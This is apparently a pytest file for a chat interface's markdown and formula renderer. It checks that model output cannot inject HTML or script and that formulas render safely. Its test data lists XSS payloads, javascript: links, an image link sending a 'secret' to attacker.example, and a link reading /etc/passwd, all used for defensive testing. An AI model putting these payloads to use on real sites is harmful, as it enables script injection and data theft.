"""What a model writes stands on the page as text."""

from __future__ import annotations

import json
import re
from html import unescape

import pytest

from chatlab.conversation import Conversation
from chatlab.ui.chat.listing import listing
from chatlab.ui.chat.transcript import transcript
from chatlab.ui.markdown import LONGEST, prose


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>window.hacked=1</script>",
        "<img src=x onerror=alert(1)>",
        "![](http://attacker.example/?q=secret)",
        "![a](data:image/svg+xml;base64,AAAA)",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt&colon;alert(1))",
        "[x](/gradio_api/file=/etc/passwd)",
        "<form action=http://attacker.example><input></form>",
        '"><svg onload=alert(1)>',
        "```\n</code></pre><iframe src=http://attacker.example>\n```",
        '[x](http://ok.example "\\" onmouseover=alert(1) x=\\"")',
        '<http://attacker.example/" onclick=alert(1)>',
        "a\n\n<div data-act=delete data-conversation=1>\n\nb",
        "\x00\x1b[31m\u202e",
    ],
)
def test_what_a_model_writes_can_only_be_read(hostile: str) -> None:
    tags = _tags(prose(hostile))
    assert not {name for name, _ in tags} & {
        "script",
        "img",
        "svg",
        "iframe",
        "form",
        "input",
        "object",
        "style",
        "div",
    }
    assert all(key in {"href", "target", "rel", "title", "class", "start"} for _, keys in tags for key in keys)
    assert "\n" not in prose(hostile)
    said = Conversation().grown(role="user", content=hostile).grown(role="assistant", content=hostile)
    allowed = {"div", "span", "button", "svg", "path", "p", "code", "pre", "a", "br", "em"}
    assert {name for name, _ in _tags(transcript(said, 30))} <= allowed
    assert transcript(said, 30).count('data-act="') == transcript(_harmless(), 30).count('data-act="')


def _harmless() -> Conversation:
    return Conversation().grown(role="user", content="a").grown(role="assistant", content="b")


def _tags(html: str) -> list[tuple[str, list[str]]]:
    from html.parser import HTMLParser

    found: list[tuple[str, list[str]]] = []

    class Reader(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            found.append((tag, [name for name, _ in attrs]))

    Reader().feed(html)
    return found


FORMULAS = [
    r"The area is \(A = \pi r^2\), and with \[ \int_0^1 x\,dx = \tfrac{1}{2} \] we are done.",
    "So:\n\n\\[\nx_1 = \\begin{a} b_c*d \\end{a} \\\\\n= 3\n---\n\\]\n\nand on",
    "$$\na_1 * b_2 * c\n\\left\\{ y \\right\\}\n$$",
    r"With $a_1$ and $x*y*z$, and $2^{10}$ for $5 and $10.",
    r"\(A = \pi r^2 and it is not over",
    "- one \\(x_1\\)\n- \\[\n  y_1 * z_1\n  \\]",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_typeset_or_stands_character_for_character_and_keeps_its_source(text: str) -> None:
    bare = re.sub(r"<semantics>.*?<annotation[^>]*>(.*?)</annotation>", r"\1", str(prose(text)))
    shown = unescape(re.sub(r"<[^>]*>", "", bare))
    assert "".join(shown.split()) == "".join(text.replace("- ", "").split())


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        (r"\(A = \pi r^2\)", "<mi>A</mi><mo>=</mo><mi>π</mi><msup><mi>r</mi><mn>2</mn></msup>"),
        (r"$\tfrac{1}{2}$", "<mfrac><mrow><mn>1</mn></mrow><mrow><mn>2</mn></mrow></mfrac>"),
        (r"\[\sqrt[3]{x_{n}'}\]", "<msubsup><mi>x</mi><mrow><mi>n</mi></mrow><mo>′</mo></msubsup>"),
        (r"\[\left(\sum_{i=1}^n a\right]\]", "<munderover><mo>∑</mo>"),
        (r"$\text{if } x < 0$", "<mtext>if </mtext><mi>x</mi><mo><</mo><mn>0</mn>"),
    ],
)
def test_a_formula_is_typeset(text: str, wanted: str) -> None:
    assert wanted in unescape(prose(text))


@pytest.mark.parametrize(
    "tex",
    [
        r"\href{javascript:x}{y}",
        r"\begin{b}\end{b}",
        "x^",
        "{" * 50,
        r"\left( x",
        "a}b",
        r"\sqrt[",
        r"\text{a",
        "x^2^3",
    ],
)
def test_what_cannot_be_typeset_stands_as_it_was_written(tex: str) -> None:
    text = rf"\({tex} \)"
    assert "<math" not in prose(text) and unescape(re.sub("<[^>]*>", "", prose(text))) == text


@pytest.mark.parametrize("text", ["It costs $5 and $10.", "$HOME and $PATH", r"`\(x\)` is code", r"a \* b \_ c"])
def test_what_is_no_formula_is_read_as_markdown(text: str) -> None:
    assert "formula" not in prose(text) and "\\*" not in prose(text)


@pytest.mark.parametrize("mark", ["\\(", "\\[", "$$ ", "$x ", "\\[\n", "\\[ x\n\\] y\n"])
def test_a_long_answer_of_marks_that_are_never_closed_is_drawn_at_once(mark: str) -> None:
    text = mark * (LONGEST // len(mark) - 1)
    assert unescape(re.sub(r"<[^>]*>", "", prose(text))).count(mark[0]) == text.count(mark[0])


EVERY = "".join(map(chr, range(0x100))) + "\u2028\u2029\u202a\u202b\u202e\u2066\u2067\ufeff\ud800\U0001f600"


@pytest.mark.parametrize(
    "text", [EVERY, "a\r\nb\rc\n", "החנות נקראת \u2067Blue Door\u2069, ובקיצור \u202bב.ד.\u202c", '"&quot;\\u0041<>']
)
def test_edit_copy_and_rename_are_given_what_is_stored_and_not_what_is_shown(text: str) -> None:
    said = Conversation(title=text).grown(role="user", content=text).grown(role="assistant", content=text)
    for html in (transcript(said, 30), listing([(1, said)], None, ())):
        given = re.findall(r'data-raw="([^"]*)"', html)
        assert given and all(json.loads(unescape(raw)) == text for raw in given)
